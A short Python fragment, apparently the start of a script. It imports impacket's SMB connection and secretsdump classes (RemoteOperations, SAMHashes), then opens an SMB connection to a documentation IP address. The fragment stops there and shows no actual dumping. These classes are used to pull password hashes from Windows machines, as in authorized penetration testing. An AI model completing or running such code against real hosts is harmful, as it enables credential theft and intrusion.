from impacket.smbconnection import SMBConnection
from impacket.examples.secretsdump import RemoteOperations, SAMHashes

conn = SMBConnection("192.0.2.5", "192.0.2.5")
